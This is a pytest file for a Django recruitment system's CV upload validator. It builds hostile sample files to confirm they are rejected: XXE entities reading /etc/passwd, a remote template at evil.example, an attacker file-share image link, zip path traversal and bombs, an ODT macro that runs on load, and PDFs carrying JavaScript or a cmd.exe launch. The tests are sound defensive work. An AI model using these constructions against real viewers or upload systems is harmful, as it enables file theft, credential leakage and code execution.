"""CV checks: real office files pass, everything else gets a clear reason."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from ats import validators
from tests.conftest import sample_bytes, upload


def rejection(name: str, content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        validators.validate_cv(upload(name, content))
    return caught.value


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_entries(content_types: bytes = validators.DOCX_MAIN_PART) -> dict[str, bytes]:
    return {
        "word/document.xml": b"<w:document/>",
        "[Content_Types].xml": b'<Types><Override ContentType="' + content_types + b'"/></Types>',
    }


@pytest.mark.parametrize(
    ("extension", "expected"),
    [("pdf", validators.PDF), ("docx", validators.DOCX), ("odt", validators.ODT)],
)
def test_real_office_files_are_accepted_as_they_are(extension, expected):
    cv = validators.validate_cv(
        upload(f"CV Åsa Öberg.{extension.upper()}", sample_bytes(extension))
    )
    assert cv.type == expected
    assert cv.display_name == f"CV Åsa Öberg.{extension.upper()}"
    assert cv.file.tell() == 0  # ready to be stored from the start


@pytest.mark.parametrize(
    ("content_of", "named"), [("pdf", "docx"), ("docx", "pdf"), ("odt", "docx")]
)
def test_extension_must_agree_with_the_content(content_of, named):
    error = rejection(f"cv.{named}", sample_bytes(content_of))
    assert error.code == "extension_mismatch"
    assert f"must end in .{content_of}" in error.message


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("cv.pdf", b"<html><script>alert(1)</script></html>", "type"),
        ("cv.pdf", b"", "empty"),
        ("cv.pdf", sample_bytes("pdf")[:5000], "damaged"),  # truncated upload
        ("cv.docx", zip_bytes({"notes.txt": b"hello"}), "type"),  # a plain zip
        (
            "cv.docx",
            zip_bytes(docx_entries(b"application/vnd.ms-word.document.macroEnabled.main+xml")),
            "active_content",
        ),
        ("cv.docx", zip_bytes({**docx_entries(), "../../evil.sh": b"#!/bin/sh"}), "unsafe_archive"),
        ("cv.docx", zip_bytes({**docx_entries(), "/etc/cron.d/x": b"x"}), "unsafe_archive"),
        ("cv.docx", sample_bytes("docx")[:3000], "type"),  # truncated archive
        (  # a spreadsheet is not a CV
            "cv.odt",
            zip_bytes(
                {
                    "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                    "content.xml": b"<office:document-content/>",
                }
            ),
            "type",
        ),
        ("cv.exe", b"MZ\x90\x00\x03", "type"),
    ],
)
def test_bad_files_are_rejected_with_a_reason(name, content, code):
    assert rejection(name, content).code == code


def test_archive_that_unpacks_beyond_the_budget_is_a_bomb():
    huge = b"\0" * (validators.ZIP_MAX_UNCOMPRESSED_BYTES + 1)
    bomb = zip_bytes({**docx_entries(), "word/media/image1.png": huge})
    assert len(bomb) < 1024 * 1024  # small on the wire
    assert rejection("cv.docx", bomb).code == "archive_bomb"


def test_archive_with_too_many_entries_is_rejected():
    entries = {f"word/part{n}.xml": b"x" for n in range(validators.ZIP_MAX_ENTRIES)}
    assert rejection("cv.docx", zip_bytes({**docx_entries(), **entries})).code == "archive_bomb"


def test_size_limit_is_inclusive(settings):
    content = sample_bytes("pdf")
    settings.ATS_CV_MAX_BYTES = len(content)
    assert validators.validate_cv(upload("cv.pdf", content)).type == validators.PDF
    settings.ATS_CV_MAX_BYTES = len(content) - 1
    error = rejection("cv.pdf", content)
    assert error.code == "too_large"
    assert "the largest accepted is" in error.message


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\astrid\\CV.pdf", "CV.pdf"),
        ("cv\u202efdp.exe", "cvfdp.exe"),  # right-to-left override removed
        ("cv\x00.pdf", "cv.pdf"),
        ("  many   spaces .pdf", "many spaces .pdf"),
    ],
)
def test_display_name_is_cleaned(raw, shown):
    assert validators.clean_display_name(raw) == shown


def test_long_display_name_keeps_its_extension():
    shown = validators.clean_display_name("a" * 300 + ".docx")
    assert len(shown) == validators.DISPLAY_NAME_MAX
    assert shown.endswith("a.docx")


# Active content (ASVS 5.2, 5.4.3): each made from the real samples, as an attacker
# would, by adding one thing to a document Word or Writer saved.
def sample_with(extension: str, *, replace: dict[str, bytes] | None = None, **added: bytes):
    source = zipfile.ZipFile(io.BytesIO(sample_bytes(extension)))
    entries = {entry.filename: source.read(entry) for entry in source.infolist()}
    entries.update(replace or {})
    entries.update({name.replace("__", "/"): content for name, content in added.items()})
    return zip_bytes(entries)


def content_types_with(extra: bytes) -> dict[str, bytes]:
    original = zipfile.ZipFile(io.BytesIO(sample_bytes("docx"))).read("[Content_Types].xml")
    return {"[Content_Types].xml": original.replace(b"</Types>", extra + b"</Types>")}


MACRO_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
DOCM_BEHIND_A_COMMENT = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org'
    b'/package/2006/content-types"><!-- ' + validators.DOCX_MAIN_PART + b" -->"
    b'<Override PartName="/word/document.xml" ContentType="' + MACRO_MAIN + b'"/></Types>'
}
SETTINGS_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    b'.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"'
    b' TargetMode="External"/></Relationships>'
)
FILE_IMAGE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats'
    b'.org/officeDocument/2006/relationships/image" Target="file://///attacker/share/a.png"/>'
    b"</Relationships>"
)
XXE_BODY = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
ODT_ON_LOAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names'
    b':tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script'
    b':1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><office:event-listeners>'
    b'<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href='
    b'"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
    b"</office:event-listeners></office:scripts><office:body/></office:document-content>"
)


def pdf_with(change) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=io.BytesIO(sample_bytes("pdf")))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def open_action(kind: str):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def change(writer):
        action = {NameObject("/S"): NameObject(kind)}
        if kind == "/JavaScript":
            action[NameObject("/JS")] = TextStringObject("app.alert(1)")
        else:
            action[NameObject("/F")] = TextStringObject("cmd.exe")
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)

    return change


def document_script(writer) -> None:
    """A script in the document's name tree, run by a viewer when it opens."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    names = ArrayObject([TextStringObject("start"), script])
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
    )


def pdf_html_polyglot() -> bytes:
    original = sample_bytes("pdf")
    header, rest = original.split(b"\n", 1)
    return header + b"\n%<html><body><script>alert(document.domain)</script>\n" + rest


ACTIVE_CONTENT = {
    "macro type behind a docx override": (
        "cv.docx",
        sample_with(
            "docx",
            replace=content_types_with(
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            ),
            word__vbaProject_bin=b"\xd0\xcf\x11\xe0",
        ),
        "active_content",
    ),
    "docm behind a comment": ("cv.docx", sample_with("docx", replace=DOCM_BEHIND_A_COMMENT), None),
    "vbaProject.bin in a docx": (
        "cv.docx",
        sample_with("docx", replace={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "active_content",
    ),
    "remote template": (
        "cv.docx",
        sample_with("docx", replace={"word/_rels/settings.xml.rels": SETTINGS_RELS}),
        "active_content",
    ),
    "file:// image": (
        "cv.docx",
        sample_with("docx", replace={"word/_rels/document.xml.rels": FILE_IMAGE_RELS}),
        "active_content",
    ),
    "odt basic macro run on load": (
        "cv.odt",
        sample_with(
            "odt",
            replace={"content.xml": ODT_ON_LOAD, "Basic/Standard/Module1.xml": b"<m/>"},
        ),
        "active_content",
    ),
    "dtd in utf-16": (
        "cv.docx",
        sample_with(
            "docx",
            replace={
                "word/document.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + XXE_BODY).encode(
                    "utf-16"
                )
            },
        ),
        "xml_entities",
    ),
    "dtd in a part named .XML": (
        "cv.docx",
        sample_with("docx", replace={"word/extra.XML": XXE_BODY.encode()}),
        "xml_entities",
    ),
    "pdf and html polyglot": ("cv.pdf", pdf_html_polyglot(), "active_content"),
    "pdf with javascript on open": (
        "cv.pdf",
        pdf_with(open_action("/JavaScript")),
        "active_content",
    ),
    "pdf with a document-level script": (
        "cv.pdf",
        pdf_with(document_script),
        "active_content",
    ),
    "pdf that launches a program": ("cv.pdf", pdf_with(open_action("/Launch")), "active_content"),
}


@pytest.mark.parametrize("case", ACTIVE_CONTENT)
def test_active_content_is_refused(case):
    name, content, code = ACTIVE_CONTENT[case]

    error = rejection(name, content)

    assert error.code == (code or "active_content")
    if error.code == "active_content":
        assert "active content" in error.message


def test_a_hyperlink_in_a_cv_is_not_active_content():
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
        b'.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.'
        b'linkedin.com/in/astrid" TargetMode="External"/></Relationships>'
    )
    content = sample_with("docx", replace={"word/_rels/document.xml.rels": rels})

    assert validators.validate_cv(upload("cv.docx", content)).type == validators.DOCX
